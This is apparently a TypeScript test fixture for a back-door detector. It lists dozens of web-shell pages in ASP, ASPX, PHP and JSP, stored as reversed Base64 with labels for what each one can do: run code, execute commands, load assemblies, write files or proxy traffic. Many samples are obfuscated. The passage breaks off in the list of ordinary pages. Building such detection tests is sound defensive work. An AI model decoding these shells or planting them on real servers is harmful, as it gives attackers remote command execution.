/**
 * Pages written for the tests of their reader: back doors of many makings, and pages that come as close to them as ordinary ones do. None of
 * them is anybody's. Stored encoded (Base64, written backwards), so that a virus scanner leaves a clone alone.
 */
import type { Capability } from './page-facts.ts';

export interface BackDoorPage {
  readonly name: string;
  readonly capability: Capability;
  readonly parameter: string | null;
  readonly encoding?: string;
  readonly text: string;
}

export const backDoors: readonly BackDoorPage[] = [
  {
    name: 'jscript-eval.aspx',
    capability: 'runs-code',
    parameter: 'k3y',
    text: '==gPlsTKixSYowWY2V2OiUmZhNnIrIib1JSPiBichZ3OdJSezsmIb1WZ0lkL0NXZ1FXZS1TYgIXY2VCPK4TJiQHcpJ3YTpkI9U2ZhV3ZuFGTgU2ZhBFIAVCP',
  },
  {
    name: 'jscript-fromcharcode.aspx',
    capability: 'runs-code',
    parameter: null,
    text: '+UyOpISZmF2cuVnIskibowWY2VGKsFmdltTKzkDL0MDLyITMsQzMsETOskDMxwSMwEDL2ETMsMzNsYDNsYTMxwSNxEDLxATMscTMxwyMxEDLxATMsIDOoUGZvNkchh2Qt9mcm5yZulmc0NVPuBichZXJ84TJiQHcpJ3YzpkI9U2ZhV3ZuFGTgU2ZhBFIAVCP',
  },
  {
    name: 'jscript-escapes.aspx',
    capability: 'runs-code',
    parameter: 'q',
    text: '=4TJ7kiIlZWYz5WdiwSXiEnIb1WZ0lkL0NXZ1FXZShyY2ADM1xVM2ADM1xlN3ADM1xVN2ADM1xVJ84TJiQHcpJ3YzpkI9U2ZhV3ZuFGTgU2ZhBFIAVCP',
  },
  {
    name: 'csharp-process.aspx',
    capability: 'executes-commands',
    parameter: 'run',
    text: '==gP0BXayN2cvwjC9pwOpIiPlJHcvwjIgsCIpkCKk5WRvRFZhVmUuQXdwRXdPRmchRmbhR3UuAHKlR2bj5WRs1GdI5iclZnclNFIrAiI+UmcwxjIoUGdpJ3VuU2cu9GczVmUgAiC7kSazBHK0JXY0NlLzNXZj9mcQBSPgAHIzNXZj9mcQBCIKsTZzxWYmBSPgUGd1NWZ4VEbsVGaTV2cV5SazBHIgowOlVnc0BSPgQXdwRXdPRmchRmbhR3U0NWZylGZlJlLpNHcgAiC70lIuVncis1Zulmc0NVeyVWdR5CdzVWdxVmUgsCIiAyYvICI9Ayc05WZtV3ZyFkLpNHcgAiC7ISZ4VmLk12YiASPgUWbh5UZslmRuk2cwBCIKsTKo8mZulEdyFGdTN3clN2byBFI3Vmbg0DIpNHcg8mZulEdyFGdTN3clN2byBFIgowegkSZgM3ZyFEduVmdFBCLyVGZuV2cgQ3YlpmYvhCZh9GTfV2ZhBFIkl2b2pgPiIXZ2JXZzJSP0Fmb1JHI0BXayN2c8ogPlAiIzNWa0N3budWYpRkLtVGdzl3Ui0TZjFGczVWbh5EI0J3bw1WSgAUJ8ogPlAiIjMkI9U2ZhV3ZuFGTgU2ZhBFIAVCP',
  },
  {
    name: 'csharp-textbox.aspx',
    capability: 'executes-commands',
    parameter: 'Box',
    text: '==gPtJ3bm9CP+8iIyVmdyV2ci0Ddh5WdyBiI0V3Ti0DZpBCblJWYMpDczFGP+8iIvdkI9s2Ypx2Qu9EIiIXZ2JXZzJSP0Fmb1JHIu9Gd0VnQ6A3chxjPvIiclZnclNnI9QXYuVncgICevJkI9QWagg3bCRHelRlOwNXY84jIyVmdyV2ci0Ddh5WdyBSby9mZ8ogP0BXayN2cvwjC9ByOpQHelRlL49mQo4WdSBSPgQHelRlL0V3TgsHIpUGIzdmcBRnblZXRgwycgQ3YlpmYvhybHBCZp9mdK0HI7kCKk5WRvRFZhVmUuQXdwRXdPRmchRmbhR3UuAHIuJXd0VmcgsTKoQnchR3UuAHI7UWdyRHI9ACd1BHd19EZyFGZuFGdTR3YlJXakVmUu8mZulEdyFGdT5CcgsDdhh2dgsCIiAyYvICI9Ayc05WZtV3ZyFkLvZmbJRnchR3UuAHI7ICZtNmIg0DIl1WYOVGbpZkLvZmbJRnchR3UuAHI7kCKzNXZj9mcQ5ycjlGdz9mbnFWaE5SblR3c5NFI3Vmbg0DIwBichZHI7BSK0FGa3ByZulmc0NHKuVnUgcmbpJHdzpgPiIXZ2JXZzJSP0Fmb1JHI0BXayN2c8ogPlAiIjMkI9U2ZhV3ZuFGTgU2ZhBFIAVCP',
  },
  {
    name: 'csharp-initialiser.ashx',
    capability: 'executes-commands',
    parameter: 'X-Q',
    text: '==Qfg0HI7kSaoQnchR3UuAFI70HIlNHbhZGI9ASZ0V3YlhXRsxWZoNVZzVFIsISfdJSUtglIbNnclRWYlhkL0NXZ1FXZS5yY7ByYuVWLiQCI9Ayc05WZtV3ZyFEIsICbsVGazJXZ39GciASPgUWbh5UZslmRgsHIvZmbJRnchR3UzNXZj9mcQ5ycjlGdz9mbnFWaE5SblR3c5NFI3Vmbg0DIpBichZHI7BSKjBCd4VGdu92QwRHdIhCdzVWdxVmUzNXZj9mcQBCZp9mdgMWasJWdwBiC7U2csFmZg4TPgUGbiF2c1VmUzlEIs92biByYpxmY1BHI7BiclxGZuFGSwRHdIlEI6ACSgM3chx2YgMWasJWdwpwOzNXZj9mcQ5ycjlGdz9mbnFWaE5SblR3c5NFI9ACUgcmbpNXdgsjYldlLtVGdzl3UgcmbpNXdK4TJgICSi0zczFGbDBiIjMkI9U2ZhV3ZuFGTgIXZsRmbhhkYldFIAVCP',
  },
  {
    name: 'csharp-assembly.aspx',
    capability: 'loads-code',
    parameter: null,
    text: '==gPlAyOpMXaoRHKzxWY1FXRukiIVJCKlNmbhR3culUZ0FWZyNkLpQGKkF2bM5SesJWblN3cB5ibvlGdjVGbmVmUu0WZ0NXeTByOpgGdn5WZMRnblRnbvNkL0NXZ1FXZSBCLwACLpgGdn5WZMRnblRnbvNkL0NXZ1FXZShCZhVmU5JXYulmQuQ3clVXclJFKrN2bsJEbh5WaG1mcvZ2cuFmcU5SKrBCLrhicvRHc5J3YlRUZ0FWZyNkLpgCZldWYuFWTsVWYk5mapJlL5hGchJ3ZvRHc5J3QukHdpJXdjV2Uu0WZ0NXeTBydl5GI9ACZg01WlRXeiByOpIiZlR2YiFWO4cjN1QzMyEDMigyclRXeCRXZH5CdsVXYmVGRucmbpR2bj5WRuQHelRlLtVGdzl3Ug0DIrBSXbVGd5JGIlwjPlAiIjMkI9U2ZhV3ZuFGTgU2ZhBFIAVCP',
  },
  {
    name: 'csharp-reflection.aspx',
    capability: 'loads-code',
    parameter: 'zz',
    text: '==gPlAyOp0HIkByeg01W0NWZqJ2bgcXZuBCLsxWduhSZr9mdulkLtByOp0HIp01WlRXeihiZvVGc5RHI7BSXbdXZuBCLiQWYiAyKgIybMJCKk9Ga0VWT0V2RuQHI9ASbgIXY2ByOpkHbi1WZzNXQu42bpR3YlxmZlJlLtVGdzl3UoY2blBXe0BSPgQHIyFmdgsTKdJie6JyW0NXZ1FXZShyZulmc0NFN2U2chJUbvJnRuQnclZnbvNkLtVGdzl3Ug0DIkBichZHIlwjPlAiIjMkI9U2ZhV3ZuFGTgU2ZhBFIAVCP',
  },
  {
    name: 'csharp-codedom.aspx',
    capability: 'runs-code',
    parameter: 'src',
    text: '=4DdwlmcjN3L80HI7kiIYJCKlNmbhR3culUZ0FWZyNkL5xmYtV2czFEZlxWaw12bD5yclJHI7kSXiMmczJyWtJ3bG5CdzVWdxVmUgwichBHKlNmc192Ut9mcGlHbi1WZzNXQlxWaw12bD5idvJHcg0DIzVmcgIXY2ByOlVnc0BSPgkncv1WZN5WSlRXYyVmbldkLyFGcgsTKoMnclRXZtFmchBlclxWaw12bDBydl5GI9AichBHIyFmdgsTKoIXZklmdvJHUlR2bDBnchh2UDBydl5GI9AidvJHcgIXY2ByepUGIzdmcBRnblZXRgwybgQ3YlpmYvhCZh9GTfV2ZhBFIkl2b2BCZlR3YlR3byBnPiIXZ2JXZzJSP0Fmb1JHI0BXayN2c84TJgIiclxWaw12bD5SbvRUZk92Qu0WZ0NXeTJSPlNWYwNXZtFmTgQncvBXbJBCQlwjPlAiIwJXYoN1QuQnZvN3byNWaNJSPlNWYwNXZtFmTgQncvBXbJBCQlwjPlAiIjMkI9U2ZhV3ZuFGTgU2ZhBFIAVCP',
  },
  {
    name: 'csharp-viewstate.aspx',
    capability: 'deserialises',
    parameter: 'v',
    text: '=4TJgsTKdJidisVby9mRuQ3clVXclJFKlpXasFWayV2clRkLpgiclRHdh1mcvZ0cvxkLJVlLiV2Vu0WZ0NXeTBydl5GIlwjPlAiIjMkI9U2ZhV3ZuFGTgU2ZhBFIAVCP',
  },
  {
    name: 'csharp-write.aspx',
    capability: 'writes-files',
    parameter: null,
    text: '==gPlAyOp0lIjJyW0NXZ1FXZSBCLp0lImJyW0NXZ1FXZShCa0FGUwFWTuIXZ2JXZThCd4VGVsxWQlRXaydlLlxWaG5yTJ5SblR3c5NFIlwjPlAiIjMkI9U2ZhV3ZuFGTgU2ZhBFIAVCP',
  },
  {
    name: 'csharp-proxy.aspx',
    capability: 'proxies-traffic',
    parameter: 'X-TARGET',
    text: '+UCI7MHI9ASXiMnIb52bpN3clNFI7kSKdFzWhhSZzJXYQ5CdulGIs0FMbFGK0NWZu52bD5ycgsTKwNGVuUGc5RFbvN2b09mcQBCLtFWZyR3UuUGc5RFdlt2YvNFIssmcvdHdl5kclRnbJ5SeslWbhZ0czVmckRWQoQXZrN2bTBydl5GI9AycgIXY2ByOpciOngCdpxGcT5Cdg0DIhBSXbdmbpJHdzByOpICVFdkUBRVLYJCK0V2RuMnclRWYlhkL0NXZ1FXZSBSPgQHIn5WayR3cgUCP+UCIiMHdlt2YvNlL0VmTu0WZ0NXeTJSPlNWYwNXZtFmTgQncvBXbJBCQlwjPlAiIjMkI9U2ZhV3ZuFGTgU2ZhBFIAVCP',
  },
  {
    name: 'csharp-webmethod.asmx',
    capability: 'executes-commands',
    parameter: 'line',
    text: '9BSfgsjI4JCIuJXd0VmcgsTKl5WasByKgICIj9iIgwiIlhXZuQWbjJCK0JXY0NlLzNXZj9mcQ5ycjlGdz9mbnFWaE5SblR3c5NFI9ACcgIXY2ByegkSZulGbgcmbpJHdzhybEByZulmc0NHIjlGbiVHcg0FZvhGdl1kYld1WgsHIlNWa2JXZTJWZXBiOgMFIzNXYsNGIjlGbiVHcKszclNWa2JXZT5iYldlLtVGdzl3UgcmbpNXdK4TJgIyUi0zczFGbDBiIjMkI9U2ZhV3ZuFGTgU2YpZnclNlYldFIAVCP',
  },
  {
    name: 'csharp-xslt.aspx',
    capability: 'runs-code',
    parameter: 'z',
    text: '+UCI7kCbsVnbgwCdsNHWkVGdzVncU5ycn5Wa0RXZTRHbzhlLsNHWuwWbY5SblR3c5NFIsQGKkF2bM5CdgsTKo0mcvZ2cuFmcURWZslGct92QsNHWuw2cY5CbthlLtVGdzl3UgcXZuBSPgQHIyFmdgsTK4hCbthFZh9GTuQGI7kCK05WZtV3YvREbthlLs1GWu0WZ0NXeTBydl5GI9ACZgIXY2ByOi4DdlVGazVGb5R3c6w2c49CP+QHcpJ3YzpDbzh3ct9CP+0VX9tTKnUmZhNnb1dCLddiensVblRXSuQ3clVXclJlLjhCbhZXZ7QnblJnc1NkL0hXZ052bDBHd0hkLiV2Vu0WZ0NXeT1zYgIXY2tXKoIHIu9Wa0Nmb1Z2WBRVQEN0WhwjPiISdiISP4lmZlJHctMHduVWblxGctlGIiICdwlmcjNlSiISPldWY1dmbhxGI0BXayN2c6w2c4NXb84jIiUnIi0Td6Mnbs1GegIiI0x2c4pTbvNWL0Z2bz9mcjlWbtMXYtVGajNnOuJXdiISPsNHez1mOz5GbthHIiISby9mZz5WYyR1LMNFWvkTO5EzLnJ3buMzduc3d39yL6AHd0hmIi0DbzhnOz5GbthHIiICMuEjIi0jbvl2cyVmdgQXZlh2clxWe0NnOsNHe8ICQg0DI4ByZulmc0NHIlwjPlAiIjMkI9U2ZhV3ZuFGTgU2ZhBFIAVCP',
  },
  {
    name: 'csharp-powershell.aspx',
    capability: 'executes-commands',
    parameter: 'x',
    text: '=4TJg0HI7kCKlt2b25WSuMHcgsTKdJCeisVby9mRuQ3clVXclJFK0BXayN2UkRWQuMHcgsHIpkCKlRXYlJ3QuwGblh2UyV2dvBlLu9Wa0FWbvRXdB5CduVWbldWYuFWTu0WZ0NXeTBSPgMHcgIXY2hCIn5WazVHIlwjPlAiIu9Wa0FWbvRXdB5CduVWbldWYuFWTu0WZ0NXeTJSPl1WYOBSesJWblN3cBBCQlwjPlAiIjMkI9U2ZhV3ZuFGTgU2ZhBFIAVCP',
  },
  {
    name: 'csharp-session.aspx',
    capability: 'loads-code',
    parameter: null,
    text: '==gPlASfgsTKiIlIoU2YuFGdz5WSlRXYlJ3QukSXismIb52bpN3clNVKdtVZ0lnYogCZh9GTukHbi1WZzNXQu42bpR3YlxmZlJlLtVGdzl3UgsHIlNHblBSfgsTKdJCcisFdzVWdxVmUocmbpJHdTRjNlNXYC12byZkL0JXZ252bDBSPg0lIrJyWu9WazNXZTByegkCbsVnbg0TIg0lIwJyW0NXZ1FXZShCImlGIlwjPlAiIjMkI9U2ZhV3ZuFGTgU2ZhBFIAVCP',
  },
  {
    name: 'vb-shell.aspx',
    capability: 'executes-commands',
    parameter: 'order',
    text: '=4DdwlmcjN3L8ogY1NFIk5WRKkSKoQmbF9GVkFWZS5Cd1BHd19EZyFGZuFGdT5CcoUGdpJ3VuU2cu9GczVmUgoQKoQnchR3UuAHIKUWdyRFI9ACd1BHd19EZyFGZuFGdTR3YlJXakVmUu8mZulEdyFGdT5CcgowYgYCIiAyYvICI9Ayc05WZtV3ZyFkLvZmbJRnchR3UuAHIKISZ4VmLk1mIgYCIiMmIg0DIl1WYOVGbpZkLvZmbJRnchR3UuAHIKkCKzNXZj9mcQ5ycjlGdz9mbnFWaE5SblR3c5NFI3VmTgMXQgAHItlGRgoQKiIXZkJ3bigSby9mRuQ3clVXclJFI9AyZulmc0NFIzFEIjBSbpREIKkycnJXQ05WZ2VEIzFEIlBCbhZVeCBCL0NWZqJ2TgMXQgMHIsFmV5JEKkF2bM9VZnFGUgIWdTpgPiIXZ2JXZzJSP0Fmb1JHI0BXayN2c8ogPlAiICZlI9U2ZhV3ZuFGTgU2ZhBFIAVCP',
  },
  {
    name: 'vb-interaction.aspx',
    capability: 'executes-commands',
    parameter: 'a',
    text: '=4TJgkSZklGSuUGb5R3Uul2VwBXQgwSKiEmIoQ3clVXclJFKsxWZoNFIlwjPlAiICZlI9U2ZhV3ZuFGTgU2ZhBFIAVCP',
  },
  {
    name: 'cshtml-process.cshtml',
    capability: 'executes-commands',
    parameter: 'c',
    text: '==QfgsTKjByKgICIj9iIgwiIlhXZuQWbjJCK0JXY0NlLzNXZj9mcQ5ycjlGdz9mbnFWaE5SblR3c5NFI70lIjJyW0NXZ1FXZSBSPgMGIyFmdgsHQ',
  },
  { name: 'vbscript-eval.asp', capability: 'runs-code', parameter: 'pw', text: '==gPlkiI3BnIoQ3clVXclJHIsFmdlVCP' },
  {
    name: 'vbscript-execute.asp',
    capability: 'runs-code',
    parameter: 't5',
    text: '+UiChBCbhJ2bsdUZ0V3YlhXRKkiI1QnIo0mcvZkL0NXZ1FXZSBSPgEmChBSbpRkClwjC+UCI0BXayN2UCZVPldWY1dmbhxEIAVCP',
  },
  {
    name: 'vbscript-chr.asp',
    capability: 'runs-code',
    parameter: 'mm',
    text: '=4TJggHIlRXdjVGelpgIpkiImkCNzgicoNmJi0WbiYSK0MDKyh2YmICK0NXZ1FXZyhiImkCOwEDKyh2YmkyN5gicoNmJpgTMxgicoNmJpEDMxgicoNGI9ACegUCP',
  },
  {
    name: 'vbscript-reverse.asp',
    capability: 'runs-code',
    parameter: 'bb',
    text: '==gPlASKpISZ2FGbgIXZxVXZzRHKiIiYiJiIpICKlNnclZXZSJHdThSZ0V3YlhXZgUCP',
  },
  {
    name: 'vbscript-replace.asp',
    capability: 'runs-code',
    parameter: 'cc',
    text: '==gPlAycgUGd1NWZ4VEI6ASKiICIsIyIiACLzhSZjFGbwVmUg0DIzBiOgISKiIyYjJiIoQ3clVXclJHIsNSYjY3IlJCI9AycgUCP',
  },
  {
    name: 'vbscript-wscript.asp',
    capability: 'executes-commands',
    parameter: 'x',
    text: '==gPloAbsFEZhVmUuQXdPRGdT5icgUGdpJ3VuU2cu9GczVmUKkSKignIocmbpJHdTlnclVXUuQ3clVXclJFImAiIgM2LgQWbjJCKjVGeF5ybg0DIyBCdlNlCpICbsVmIgYCIig2UuQHcpJCImAiIyN2UXJCK0NWZqJ2TlRXYlJ3QuIXZ2JXZTBSPg8GI0V2UKUCP',
  },
  {
    name: 'vbscript-hexfn.asp',
    capability: 'runs-code',
    parameter: null,
    text: '=4TJKkiI5IjMyEjNyIDOyQzNzcTN2UzNxcTN2IzNwIzQ2EjN2cTN2ICKkBSZ0V3YlhXRK42bpR3YuVnRgQmbFpAd4VmTgoQKpkiMgwSagwycoQWaNBiJgICSmICKn5GTDhicoNEImACZg0DIkBCIKIDIwVGdTBSKzhiblxEIvRFIxASPgkGIy9mRgoQKzhCZg42bpR3YuVnRKUCP',
  },
  {
    name: 'vbscript-stream.asp',
    capability: 'writes-files',
    parameter: null,
    text: '=4TJKIDIskSKiUWbh5mIoQ3clVXclJFKoRXYQBXYN5iclZnclNFIlxWaG9GVlZXYT5ycKkiI5R2biJCK0NXZ1FXZSBCd4VGVlRXaydlLzpgblB3TuMnCyASPgUGc5RlLzpQKi0WYlJHdT5iQE9ERBJCK0NWZqJ2TlRXYlJ3QuIXZ2JXZTBSPgMHI0V2UKUCP',
  },
  {
    name: 'jscript-server.asp',
    capability: 'runs-code',
    parameter: 'u',
    text: '+QHcpJ3Yz9CP7kCKmBSfgsTKiIyKpISdigSby9mZuQ3clVXclJFKsFmdlByepgiZg42bpR3YuVnZ+IiclZnclNnI9QXYuVncgICdwlmcjNlSi0TZnFWdn5WYsBCdwlmcjNHP',
  },
  { name: 'php-eval.php', capability: 'runs-code', parameter: 'p', text: '==wOp0lIwJyWUN1TQ9FJowWY2VGQgAHaw9DP' },
  {
    name: 'php-b64.php',
    capability: 'runs-code',
    parameter: 'z',
    text: '=sTKp0lI6JyWUNVRVFVRS9FJoYGJowWY2VGI7ISZk92YlRmIuIyX0YjIuISZzFmYiASPgYGJgAHaw9DP',
  },
  {
    name: 'php-packed.php',
    capability: 'runs-code',
    parameter: 'deep',
    text: '==wOpkSKiEUWBRXVmRnVwcFdqtEcDxUd4QzY5p1Mkp0QGFjc5NXevNGSVdFVU1kdvhDTL1WaM9WROpHTxk3UigSZk92YlR2X0YTZzFmYoUGdhxmZulmenhCbhZXZgAHaw9DP',
  },
  {
    name: 'php-assert.php',
    capability: 'runs-code',
    parameter: 'q',
    text: '7kSXiEnIbR1UPB1XkgSYkAyOpICdyhXZ4NHezhXYiACLiICIsICeigSZjFGbwVmcfJHdzBSPgEGJgAHaw9DP',
  },
  {
    name: 'php-callback.php',
    capability: 'runs-code',
    parameter: 'c',
    text: '7kSKdJyYisFVFd0XkgSehJnchBCLiQnclNnIuIychJCKwFWbflXYyJXYgAHaw9DP',
  },
  {
    name: 'php-xor.php',
    capability: 'runs-code',
    parameter: 'x',
    text: '7kSXignIbRVRH9FJoYGJgsTKiAkIeJCNigiLpICQi4lIyICKukiIAJiXiUiIo4SKiAkIeJyMigiLpICQi4lIzICKukiIAJiXiEiIoASPgYGJgAHaw9DP',
  },
  {
    name: 'php-varvar.php',
    capability: 'executes-commands',
    parameter: 'cmd',
    text: '7kSXiQWbjJyWyRCKtVGdzl3cgszakQCI9AickAyOiQ1Ui4iIPB1XiASPgsGJgAHaw9DP',
  },
  {
    name: 'php-heredoc.php',
    capability: 'executes-commands',
    parameter: 'c',
    text: '=owOBpgPlJHcvwzbk4TZyBHPKEEP8wDIvh2YlpwOpISfddyYnsVRJt0TPN0XksHI7QWaigybnBSPg8GJK0nC7kidkgyYlhXZfxGblh2cg4mc1RXZyBCIKsHIpYHJo82Zg42bpR3YuVnZKAHaw9DP',
  },
  { name: 'php-backtick.php', capability: 'executes-commands', parameter: '1', text: '=4zPgAWXxsFVFd0XkAGI98DP' },
  {
    name: 'php-input.php',
    capability: 'runs-code',
    parameter: null,
    text: '=sTKpkCZkgSZk92YlR2X0YTZzFmYoUGdhxmZulmenhCbhZXZgsTKiQXdw5Wav8iOwhGcigyc05WZ052bj9Fdld2XlxWamBSPgQGJgAHaw9DP',
  },
  { name: 'php-include.php', capability: 'runs-code', parameter: 'page', text: '==wOdJSZnFGcisFVFd0XkASZkVHbj5WagAHaw9DP' },
  {
    name: 'php-create.php',
    capability: 'runs-code',
    parameter: 'code',
    text: '=sTKoYGJgsTKdJSZk92YisFVT9EUfRCIsIiIo42bpR3YuVnZfVGdhVmcjBSPgYGJgAHaw9DP',
  },
  {
    name: 'php-class.php',
    capability: 'executes-commands',
    parameter: 'x',
    text: '==wOp0lI4JyWUNVRVFVRS9FJoEEI3Vmbg0HI9ByOpMmPtMXaoRHJoUncoR3czFGcgsHIpgCdjVnc0NXZk91Xg42bpR3YuVnZg0HI7MGJg0DIj5TLzlGa0RCI7BSKjRCK0NWdyR3cu92Yf9FIu9Wa0Nmb1ZGI7MGJgUGdhZXayBHI7BSQgM3chx2YgAHaw9DP',
  },
  { name: 'php-extract.php', capability: 'runs-code', parameter: null, text: '7kiYkgSYkAyOpQ1UPB1XkgCdjFmc0hXZgAHaw9DP' },
  {
    name: 'php-write.php',
    capability: 'writes-files',
    parameter: null,
    text: '==wOp0lIkJyWUN1TQ9FJgwSXiYmIbRVRH9FJoMHduVGdu92YfRXdw9VZslmZgAHaw9DP',
  },
  {
    name: 'php-globals.php',
    capability: 'executes-commands',
    parameter: 'HTTP_X_C',
    text: '=sTKdJyQfh1XQRFVIJyWSVkVSV0UfRCKdJSMxJyWTxUQC9ETHRCI7ISdyhGdiAiLgIyczFGciASPg0lIxEnIbNFTBJ0TMdEJgAHaw9DP',
  },
  {
    name: 'jsp-exec.jsp',
    capability: 'executes-commands',
    parameter: 'cmd',
    text: '+UCI7kCKtFWZyR3U0VHculEdldmLwBSPg4Wag0WYlJHdTRXdw5WSgsTK9NGLiMWLiwiIoN3LulmYvIyedt1Zulmc0NFI3VmboMWZ4VmLpgSZtlGduVnU0V2ZuUWbpRnb1JFI9ACcgM3clN2byBFI7kiIk12YigiclRXZtFmchBFdldmL0NXZ1FXZyBSPgMGIn5WayR3UgUCP+UCIioiLvlmLhZXYqJSP0J3bw1WagU2ZhBHIAVCP',
  },
  {
    name: 'jsp-builder.jsp',
    capability: 'executes-commands',
    parameter: 'X-R',
    text: '==gPlAyOpgCdyFGdz5iYgsTKpIiUtglIoIXZkFWZIRXZn5CdzVWdxVmcgwiIj9iIgwiIk12YigiclRGbpVnQzNXZj9mcQBydl5GI9AiYgIXZkxWa1J0czV2YvJHUgUCP',
  },
  {
    name: 'jsp-define.jsp',
    capability: 'loads-code',
    parameter: null,
    text: '+UCI7kCd4VGdu92QldWYwhycsFWdxVmLpgSZj5WY0NnbJdXZu5SKkhyZukSKoIXZkF2bMN3chx2Q0V2ZukCKzNXYsNEdldmLzlGa0hSVgcXZuByOpYHKlR2bjVGZukCKyVGZvNWZERXZn5CN2U2chJkLslGd15SY2Fmag0DIkBSXbVGd5JGI7kCKl5WaMRWYlJnLpgiclRWYlJFdldmL0NXZ1FXZyBSPgYHIn5WayR3UgUCP+USf9tTKoR3ZuVGbuIGLwwiYoM3chx2Ql5WamVGZuIXZwV3cg4mc1RXZytXKiBSXbVGd5JGKnByczFGbDByYpxmY1BXf7kyYoIXZwV3c7lyYgIXZkF2bMN3chx2QoU1eyVGZh9GTzNXYsNEIzRmblRHelBSVgM3chx2YhUCP',
  },
  {
    name: 'jsp-reflect.jsp',
    capability: 'executes-commands',
    parameter: 'i',
    text: '+UCI7kSKikmIoIXZ0VWbhJXYQRXZn5CdzVWdxVmcgwyboU2avZnbp5SKzNXYsNmLn5WayR3UgwiIjVmIgsCIigXZigCZvhGdl1EdldmLyByOpwGb15GKlt2b25WaukiIl1Wa0JCIrAiIuVnU0V2ZigCZvhGdl1EdldmLyBSPg8GI0NWZqJ2TgsTKiUWbpRnIgsCIi4WdS5yZuFGbuEmdhpmIoUWbh5kcvZmLzNXYsNEI9AicgM3chx2QgUCP',
  },
  {
    name: 'jsp-unicode.jsp',
    capability: 'executes-commands',
    parameter: 'k',
    text: '+UCI7kSKismIoIXZ0VWbhJXYQRXZn5CdzVWdxVmcoMWZ4VjNwATdc5SKoUWbpRnb1JFdldmL1YDMwUHXkZDMwUHX5YDMwUHX0cDMwUHXlZDMwUHX1cDMwUHXyUDMwUHXgUCP',
  },
  {
    name: 'jsp-write.jsp',
    capability: 'writes-files',
    parameter: null,
    text: '==gPlAyOpkCKzVGd5JEdldmLpICdigiclRXZtFmchBFdldmL0NXZ1FXZyhSZ0lmc35SKpIiZigiclRXZtFmchBFdldmL0NXZ1FXZyhSbhVmc0NFd1BHd19UZslmRu8WauEmdhpGI3VmbgUCP',
  },
  {
    name: 'jsp-el.jsp',
    capability: 'runs-code',
    parameter: 'a',
    text: '=0XKh5SbhJXYwhCbhZXZukiIzpmIoUWbh5UeCVmbpdmbFRXZn5SKoU2YuFGdz5WS3VmbukiIyV2Zh5WYNVmbpdmbFRHcpJ3YT5CdwlmcjNnL4FmdhpmIoUWbh5kcvZmLpgyczFGbDRXZn5iIisHJ',
  },
  {
    name: 'jspx-exec.jspx',
    capability: 'executes-commands',
    parameter: 'w',
    text: '+Q3bvJnOwNnavwjP0VGb0BXayN2c6A3cq9CP+0VXgsTKpIydigiclRXZtFmchBFdldmL0NXZ1FXZyhyYlhXZukCKl1Wa05WdSRXZn5SZtlGduVnUgsVQUFERDtVI84DdlxGdwlmcjNnOwNna84jIy4SMi0jbvl2cyVmdgISZnFGUvA1UK9SbvNmLuV3cuEmdhp2LvoDc0RHai0DczpmOz5GbthHI092bypDczpGP',
  },
  {
    name: 'jspx-entities.jspx',
    capability: 'executes-commands',
    parameter: 'w',
    text: '=4Ddv9mc6A3cq9CP+QXZsRHcpJ3YzpDczp2L8sTKpsDdvVXcmc3O09WdxZCKyVGdl1WYyFGU0V2ZuQ3clVXclJHKjV2O4cDejYSZukCKl1Wa05WdSRXZn5SZtlGduV3OygzIm4DdlxGdwlmcjNnOwNna84jIy4SMi0jbvl2cyVmdgISZnFGUvA1UK9SbvNmLuV3cuEmdhp2LvoDc0RHai0DczpmOz5GbthHI092bypDczpGP',
  },
  {
    name: 'jsp-engine.jsp',
    capability: 'runs-code',
    parameter: 's',
    text: '+UCI7kSKiMnIoIXZ0VWbhJXYQRXZn5CdzVWdxVmcowWY2VmLpIycqJCKl1WYOlnQl5Wan5WR0V2ZukCKyV2Zh5WYNVmbpdmbFRHcpJ3YT5CdwlmcjNnL4FmdhpGI3VmbgUCP',
  },
  {
    name: 'utf16.aspx',
    capability: 'runs-code',
    parameter: 'k3y',
    encoding: 'utf-16le',
    text: '==AA+AQJAsDApAgYAwCAhBAKAwGAhBgdAUGA7AgIAUGAmBQYAMHAiAwKAICAuBQdAICA9AgYAACAyBQYAYHA7AQXAICA5BwMAsGAiAwWA0GAlBAdAkEAuAAdAMHAlBQdAEHAlBgUA0DAhBAIAIHAhBgdAUCA8AgCA4DAlAgIAQHAwBQaAIHAjBwUAoEAiAQPAUGAnBQYAUHAnBgbAEGAMBAIAUGAnBQYAAFAgAAQAUCA84//',
  },
  {
    name: 'utf16-nomark.aspx',
    capability: 'runs-code',
    parameter: 'k3y',
    encoding: 'utf-16le',
    text: '=AgPAUCA7AQKAIGAsAQYAgCAsBQYAYHAlBwOAICAlBgZAEGAzBgIAsCAiAgbAUHAiAQPAIGAgAgcAEGA2BwOA0FAiAQeAMDArBgIAsFAtBQZAQHAJBgLAQHAzBQZAUHAxBQZAIFA9AQYAACAyBQYAYHAlAAPAoAA+AQJAICA0BAcAkGAyBwYAMFAKBgIA0DAlBwZAEGA1BwZA4GAhBATAACAlBwZAEGAQBAIAAEAlAAP',
  },
  {
    name: 'utf7.asp',
    capability: 'runs-code',
    parameter: 'pw',
    encoding: 'utf-7',
    text: '=4TJtAXQnlUQjhUQ3J0ZJF0ZDFEMCd3YBV1RBFjQRNWQVdUQ5JUQJF0dHFEaCdGZBV1RBtSJ84TJwADM1YTPldWYwVGZvNGIAVCP',
  },
  {
    name: 'bom-twice.php',
    capability: 'runs-code',
    parameter: 'p',
    encoding: 'utf-8',
    text: '==wOp0lIwJyWUN1TQ9FJowWY2VGQgAHaw9DP/u77/u77',
  },
  {
    name: 'gbk.asp',
    capability: 'runs-code',
    parameter: 'pw',
    encoding: 'gbk',
    text: '==gPlASKicHcigCdzVWdxVmcgwWY2VGI6AiIclL0WLCI9ACegUCP',
  },
  { name: 'gif.php', capability: 'runs-code', parameter: 'p', text: '7kSXiAnIbR1UPB1XkgCbhZXZABCcoB3P8ACABAQAhlDOGl0R' },
  {
    name: 'cp037.jsp',
    capability: 'executes-commands',
    parameter: 'k',
    encoding: 'cp037',
    text: 'uxGQe1VX/J5fNlZhjWIlBmZgXPahHu0oiWIpYWYmNNYhnW4Sd1UhUm4oVSa2jW4hLVIlJOalkmNQsxkbs939zD/lD+nfHWZiEa5gVWchHG4lAV4hBeJQ8xGT',
  },
];

export const ordinary: readonly { readonly name: string; readonly text: string }[] = [
  {
    name: 'clock.aspx',
    text: '=4DcvwjPlASKdJCdh1mcvZmIbR3clVXclJFKn5WayR3UvRlL39mTuUWbpRVZ0FGRg0TJ84Dc8ogPlAiIjMkI9U2ZhV3ZuFGTgU2ZhBFIAVCP',
  },
  {
    name: 'search.aspx',
